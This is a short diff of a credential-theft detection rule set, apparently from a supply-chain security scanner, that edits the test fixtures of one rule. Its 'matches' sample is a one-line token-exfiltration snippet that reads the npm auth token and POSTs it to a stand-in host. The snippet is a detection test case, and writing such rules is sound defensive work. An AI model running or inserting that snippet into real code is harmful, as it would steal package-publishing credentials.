@@ -467,10 +467,10 @@ export const credentialTheft: RuleSet = {
       ),
       matches: [
         js(
-          "const t = execSync('npm config get //registry.npmjs.org/:_authToken').toString()\nfetch('https://x.example.invalid', { method: 'POST', body: t })",
+          "const t = execSync('npm config get //registry.example.invalid/:_authToken').toString()\nfetch('https://x.example.invalid', { method: 'POST', body: t })",
         ),
       ],
-      misses: [sh('npm config set //registry.npmjs.org/:_authToken "$NPM_TOKEN"\nnpm publish')],
+      misses: [sh('npm config set //registry.example.invalid/:_authToken "$NPM_TOKEN"\nnpm publish')],
     },
     {
       id: id('runner-secrets'),
